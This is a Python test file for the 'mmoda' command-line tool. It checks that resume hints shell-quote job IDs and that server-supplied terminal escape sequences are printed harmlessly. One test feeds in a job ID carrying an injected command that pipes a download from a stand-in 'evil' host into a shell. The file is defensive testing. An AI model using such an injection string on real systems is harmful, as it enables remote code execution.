"""What the ``mmoda`` command prints never carries a server's escape sequences or shell syntax."""
import shlex
import types
import warnings

from astroquery_mmoda.cli import output


def fake_job(job_id, session_id="ABCDEFGHIJKLMNOP"):
    return types.SimpleNamespace(job_id=job_id, session_id=session_id, status="submitted")


def test_the_suggested_command_quotes_every_word():
    hint = output.resume_hint(fake_job("x; curl http://evil | sh #"), output="my dir")
    assert shlex.split(hint) == ["mmoda", "job", "x; curl http://evil | sh #", "--session-id",
                                 "ABCDEFGHIJKLMNOP", "--wait", "-o", "my dir"]
    assert output.resume_hint(fake_job("0123456789abcdef")) == \
        "mmoda job 0123456789abcdef --session-id ABCDEFGHIJKLMNOP --wait"


def test_control_characters_are_shown_as_question_marks():
    assert output.printable("a\x1b]0;owned\x07b\tc\nd\x9be\x7f") == "a?]0;owned?b\tc\nd?e?"
    assert output.cell("\x1b[2Jjob") == "?[2Jjob"
    assert output.format_table(["id"], [["\x1b[31mred"]])[-1] == "?[31mred"


def test_notes_lines_errors_and_warnings_are_printable(capsys):
    output.note("job \x1b[2J done")
    output.print_lines(["row \x1b[1m", "plain"])
    output.report("failed \x1b]0;title\x07")
    with warnings.catch_warnings(), output.Output(0):
        warnings.simplefilter("always")  # the suite turns warnings into errors
        warnings.warn("comment \x1b[5m blinking")
        from astroquery import log
        log.warning("logged \x1b[8m hidden")
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.err
    assert captured.out == "row ?[1m\nplain\n"
    assert "mmoda: job ?[2J done" in captured.err and "mmoda: error: failed ?]0;title?" in captured.err
    assert "comment ?[5m blinking" in captured.err and "logged ?[8m hidden" in captured.err
